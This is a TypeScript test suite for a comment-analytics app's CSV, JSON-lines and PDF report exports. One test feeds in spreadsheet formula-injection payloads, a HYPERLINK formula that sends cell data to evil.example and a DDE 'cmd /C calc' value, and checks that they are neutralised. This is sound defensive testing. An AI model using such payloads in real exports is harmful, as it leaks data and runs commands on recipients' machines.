import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { pool } from "@/lib/db";
import { loadInsights, setTimezone } from "@/lib/analytics";
import { paramsFromSearch } from "@/lib/analytics/filters";
import { createUser } from "@/lib/auth/users";
import { CSV_COLUMNS, exportChunks, exportLogQuerySchema, listExportRuns, renderPdfReport, reportRequestFromSearch } from "@/lib/reports";
import { recordExportRun } from "@/lib/reports/runs";
import { loadReportSummary } from "@/lib/reports/pdf/summary";
import { reportFiltersFromSearch, resolveReportFilters } from "@/lib/reports/filters";
import { drillUrl } from "@/lib/analytics/drill";
import { previewReport } from "@/lib/reports/preview";
import { insertComment, insertDecision, insertScore, insertSource, insertThread } from "./analytics-dataset";

const audit = { userId: null, via: "test" as const };

async function text(query: string): Promise<string> {
  let out = "";
  for await (const chunk of exportChunks(reportRequestFromSearch(new URLSearchParams(query)), audit)) out += chunk;
  return out;
}

async function csv(query: string): Promise<Record<string, string>[]> {
  return parse(await text(`format=csv&${query}`), { columns: true, bom: true }) as Record<string, string>[];
}

let t1 = 0;
let t2 = 0;

beforeAll(async () => {
  const a = await insertSource("a");
  const b = await insertSource("b");
  t1 = await insertThread(a, "t1", "politics");
  t2 = await insertThread(b, "t2", null);
  const rows = [
    { sid: "r1", threadId: t1, sourceId: a, postedAt: "2026-05-31T22:30:00Z", body: "Early bird, 00:30 in Berlin on 1 June" },
    { sid: "r2", threadId: t1, sourceId: a, postedAt: "2026-06-01T10:00:00Z", body: "You idiot, with a comma, and \"quotes\"", modStatus: "rejected" as const, flagged: true },
    { sid: "r3", threadId: t2, sourceId: b, postedAt: "2026-06-02T10:00:00Z", body: "Spam at the source", sourceStatus: "spam" as const },
    { sid: "r4", threadId: t2, sourceId: b, postedAt: "2026-06-02T21:59:59Z", body: "Last of 2 June in Berlin\nsecond line 🙂" },
  ];
  const ids: number[] = [];
  for (const r of rows) ids.push(await insertComment(r));
  await insertScore(ids[0]!, "1", { sentiment: 0.5, label: "positive", incivility: 0.1, attributes: { insult: 0.1 } }, "m");
  await insertScore(ids[1]!, "1", { sentiment: -0.7, label: "negative", incivility: 0.8, attributes: { insult: 0.8, threat: 0.1 } }, "m");
  await insertScore(ids[2]!, "1", { sentiment: 0, label: "neutral", incivility: 0.2 }, "m");
  await insertDecision(ids[1]!, { action: "reject", at: "2026-06-01T11:00:00Z", previous: "flagged", next: "rejected", reason: "insult" });
  await setTimezone("Europe/Berlin");
});

describe("report exports", () => {
  it("writes the documented CSV columns, oldest first, with exact text", async () => {
    const rows = await csv("model=m@1");
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => r.sourceId)).toEqual(["r1", "r2", "r3", "r4"]);
    // UTC for machines, and beside it the newsroom's own clock (Europe/Berlin here) for people.
    expect(CSV_COLUMNS.indexOf("postedAtLocal")).toBe(CSV_COLUMNS.indexOf("postedAt") + 1);
    expect(rows.map((r) => [r.postedAt, r.postedAtLocal])).toEqual([
      ["2026-05-31T22:30:00.000Z", "2026-06-01 00:30:00"],
      ["2026-06-01T10:00:00.000Z", "2026-06-01 12:00:00"],
      ["2026-06-02T10:00:00.000Z", "2026-06-02 12:00:00"],
      ["2026-06-02T21:59:59.000Z", "2026-06-02 23:59:59"],
    ]);
    expect(rows[1]).toMatchObject({
      body: "You idiot, with a comma, and \"quotes\"",
      "moderation.status": "rejected",
      "moderation.reason": "insult",
      "moderation.decidedAt": "2026-06-01T11:00:00.000Z",
      "incivility.insult": "0.8",
      "incivility.threat": "0.1",
      "incivility.profanity": "",
      "thread.section": "politics",
      model: "m@1",
    });
    expect(rows[3]).toMatchObject({ body: "Last of 2 June in Berlin\nsecond line 🙂", model: "", "sentiment.score": "" });
  });

  it("filters by newsroom days, sources, threads, statuses and attributes", async () => {
    // 1 June in Berlin starts at 31 May 22:00 UTC and ends at 1 June 22:00 UTC.
    expect((await csv("model=m@1&from=2026-06-01&to=2026-06-01")).map((r) => r.sourceId)).toEqual(["r1", "r2"]);
    expect((await csv("model=m@1&from=2026-06-02&to=2026-06-02")).map((r) => r.sourceId)).toEqual(["r3", "r4"]);
    expect((await csv("model=m@1&source=b")).map((r) => r.sourceId)).toEqual(["r3", "r4"]);
    expect((await csv(`model=m@1&thread=${t1}`)).map((r) => r.sourceId)).toEqual(["r1", "r2"]);
    expect((await csv("model=m@1&status=rejected")).map((r) => r.sourceId)).toEqual(["r2"]);
    expect((await csv("model=m@1&sourceStatus=spam,deleted")).map((r) => r.sourceId)).toEqual(["r3"]);
    expect((await csv("model=m@1&attribute=insult")).map((r) => r.sourceId)).toEqual(["r2"]);
    expect((await csv("model=m@1&attribute=threat"))).toEqual([]);
  });

  it("adds a byte-order mark only when asked, and writes nested JSON lines", async () => {
    expect((await text("format=csv&bom=1")).startsWith("\uFEFFthread.key,")).toBe(true);
    expect((await text("format=csv")).startsWith("thread.key,")).toBe(true);
    const lines = (await text("format=jsonl&model=m@1&status=rejected")).trimEnd().split("\n").map((l) => JSON.parse(l));
    expect(lines).toEqual([
      expect.objectContaining({
        sourceId: "r2",
        thread: expect.objectContaining({ key: "t1", source: "a", section: "politics" }),
        incivility: expect.objectContaining({ score: 0.8, insult: 0.8 }),
        moderation: { status: "rejected", reason: "insult", decidedAt: "2026-06-01T11:00:00.000Z" },
      }),
    ]);
  });

  it("refuses bad filters with a clear message", () => {
    expect(() => reportRequestFromSearch(new URLSearchParams("format=csv&from=2026-02-30"))).toThrow(/YYYY-MM-DD/);
    expect(() => reportRequestFromSearch(new URLSearchParams("format=xls"))).toThrow();
    expect(() => reportRequestFromSearch(new URLSearchParams("format=csv&from=2026-06-02&to=2026-06-01"))).toThrow(/after/);
    expect(() => reportRequestFromSearch(new URLSearchParams("format=csv&status=gone"))).toThrow();
  });

  it("escapes line and paragraph separators in JSON lines, so every reader sees one record per line", async () => {
    const source = await insertSource("separators");
    const thread = await insertThread(source, "sep", null);
    const body = "one\u2028two\u2029three\u0085four";
    await insertComment({ sid: "sep1", threadId: thread, sourceId: source, postedAt: "2026-07-02T10:00:00Z", body });
    try {
      const raw = await text("format=jsonl&source=separators");
      expect(raw).not.toMatch(/[\u2028\u2029\u0085]/);
      expect(raw).toContain("one\\u2028two\\u2029three\\u0085four");
      expect(raw.split(/\r\n|[\n\r\u2028\u2029\u0085]/)).toHaveLength(2);
      expect(JSON.parse(raw).body).toBe(body);
    } finally {
      await pool.query("DELETE FROM comment WHERE source_id = $1", [source]);
    }
  });

  it("records every export with its filters, row count and outcome", async () => {
    await pool.query("DELETE FROM export_run");
    await text("format=csv&source=b&model=m@1");
    const stream = exportChunks(reportRequestFromSearch(new URLSearchParams("format=jsonl")), audit);
    await stream.next();
    await stream.return(undefined);
    const { rows } = await pool.query("SELECT format, filters, row_count, status, via FROM export_run ORDER BY id");
    expect(rows).toEqual([
      { format: "csv", filters: { source: ["b"], model: "m@1", timezone: "Europe/Berlin" }, row_count: 2, status: "completed", via: "test" },
      { format: "jsonl", filters: expect.objectContaining({ timezone: "Europe/Berlin" }), row_count: 1, status: "cancelled", via: "test" },
    ]);
  });

  it("defuses spreadsheet formulas in CSV text cells; JSON lines keep the exact text", async () => {
    const source = await insertSource("formulas");
    const thread = await insertThread(source, "=cmd|' /C calc'!A0", null);
    const bodies = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@Editor you missed this", "+1 to that", "-2 votes", "\tTabbed", "A = B is fine"];
    for (const [i, body] of bodies.entries()) {
      await insertComment({ sid: `f${i}`, threadId: thread, sourceId: source, postedAt: `2026-07-01T10:0${i}:00Z`, body });
    }
    const rows = await csv("source=formulas");
    expect(rows.map((r) => r.body)).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'@Editor you missed this", "'+1 to that", "'-2 votes", "'\tTabbed", "A = B is fine",
    ]);
    expect(rows[0]!["thread.key"]).toBe("'=cmd|' /C calc'!A0");
    const lines = (await text("format=jsonl&source=formulas")).trim().split("\n").map((l) => JSON.parse(l));
    expect(lines.map((l) => l.body)).toEqual(bodies);
    // The other tests count the rows of the dataset above.
    await pool.query("DELETE FROM comment WHERE source_id = $1", [source]);
  });

  it("shows in a drill-down's preview the comments Insights counted: sections, model and no pingbacks", async () => {
    const a = await insertSource("drill-a");
    const b = await insertSource("drill-b");
    const business = await insertThread(a, "drill-business", "Business, Finance");
    const none = await insertThread(b, "drill-none", null);
    const sports = await insertThread(a, "drill-sports", "Sports");
    const rows = [
      { sid: "d1", threadId: business, sourceId: a, postedAt: "2026-08-03T10:00:00Z" },
      { sid: "d2", threadId: business, sourceId: a, postedAt: "2026-08-03T11:00:00Z", kind: "pingback" as const },
      { sid: "d3", threadId: none, sourceId: b, postedAt: "2026-08-04T10:00:00Z" },
      { sid: "d4", threadId: sports, sourceId: a, postedAt: "2026-08-04T10:00:00Z" },
    ];
    try {
      for (const r of rows) {
        const id = await insertComment(r);
        await insertScore(id, "2", { sentiment: 0, label: "neutral", incivility: 0.6, attributes: { insult: 0.6 } }, "m");
      }
      const search = "from=2026-08-01&to=2026-08-07&source=drill-a&source=drill-b&section=Business%2C+Finance&section=&model=m@2";
      const insights = await loadInsights(paramsFromSearch(new URLSearchParams(search)));
      expect(insights.overview.current.comments).toBe(2);
      const f = insights.filters;
      const url = drillUrl({ from: f.from, to: f.to, source: f.sourceKeys, sections: f.sections, model: f.otherModel ?? undefined }, true);
      expect(url).toMatch(/^\/exports\?/);
      const preview = await previewReport(reportFiltersFromSearch(new URLSearchParams(url.split("?")[1])));
      expect(preview.rows).toBe(2);
      expect(preview.sample.map((r) => r.sourceId)).toEqual(["d1", "d3"]);
      expect(preview.model).toBe("m 2");
      expect(preview.figures.comments).toBe(2);
    } finally {
      await pool.query("DELETE FROM comment WHERE source_id = ANY($1::int[])", [[a, b]]);
    }
  });

  it("finds log entries by the typed part of an email, % and _ taken literally", async () => {
    await pool.query("DELETE FROM export_run");
    const exact = await createUser({ email: "ann_lee@reports.test", role: "staff" });
    const near = await createUser({ email: "annxlee@reports.test", role: "staff" });
    for (const { user } of [exact, near]) {
      await recordExportRun({ userId: user.id, via: "test" }, { format: "csv", filters: {}, rowCount: 1, status: "completed" });
    }
    const emails = async (email: string) => (await listExportRuns(exportLogQuerySchema.parse({ email }))).runs.map((r) => r.email);
    expect(await emails("n_l")).toEqual(["ann_lee@reports.test"]);
    expect(await emails("ANN")).toEqual(["annxlee@reports.test", "ann_lee@reports.test"]);
    expect(await emails("%")).toEqual([]);
  });
});

describe("PDF report", () => {
  it("summarises the same rows as the CSV and agrees with the insights rollups", async () => {
    const filters = await resolveReportFilters(reportRequestFromSearch(new URLSearchParams("format=pdf&from=2026-06-01&to=2026-06-02&model=m@1")).filters);
    const summary = await loadReportSummary(filters);
    expect(summary.figures).toMatchObject({ comments: 4, scored: 3, removed: 2, flagged: 1 });
    expect(summary.figures.avgSentiment).toBeCloseTo((0.5 - 0.7 + 0) / 3, 10);
    expect(summary.bucket).toBe("day");
    expect(summary.series.map((p) => p.comments)).toEqual([2, 2]);
    expect(summary.removed.map((r) => r.reason)).toEqual(["rejected: insult", "spam at the source"]);
    expect(summary.threads.map((t) => [t.title, t.comments, t.removed])).toEqual([["Thread t1", 2, 1], ["Thread t2", 2, 1]]);
    const insights = await loadInsights(paramsFromSearch(new URLSearchParams("from=2026-06-01&to=2026-06-02&model=m@1")));
    expect(insights.overview.current).toMatchObject({ comments: 4, scored: 3, removed: 2, flagged: 1 });
    expect(insights.overview.current.avgSentiment).toBeCloseTo(summary.figures.avgSentiment!, 10);
  });

  const renderPdf = async (search: string) => {
    const parts: Uint8Array[] = [];
    for await (const chunk of renderPdfReport(reportRequestFromSearch(new URLSearchParams(search)), { ...audit, who: "tester@example.org" })) parts.push(chunk);
    return Buffer.concat(parts);
  };
  const pageCount = (pdf: Buffer) => pdf.toString("latin1").match(/\/Type \/Page\b/g)?.length ?? 0;

  it("streams a PDF with a title page, charts, threads and removed comments", async () => {
    const pdf = await renderPdf("format=pdf&model=m@1");
    expect(pdf.subarray(0, 5).toString()).toBe("%PDF-");
    expect(pdf.subarray(-6).toString()).toMatch(/%%EOF/);
    // Two threads leave room on their page for the two removed comments.
    expect(pageCount(pdf)).toBe(3);
    expect(pdf.toString("latin1")).toMatch(/\/Count 3\b/);
    const { rows } = await pool.query("SELECT format, row_count, status FROM export_run WHERE format = 'pdf'");
    expect(rows).toEqual([{ format: "pdf", row_count: 4, status: "completed" }]);
  });

  it("is one page when no comment matches", async () => {
    const pdf = await renderPdf("format=pdf&model=m@1&from=2031-01-01&to=2031-01-31");
    expect(pdf.subarray(0, 5).toString()).toBe("%PDF-");
    expect(pageCount(pdf)).toBe(1);
  });
});
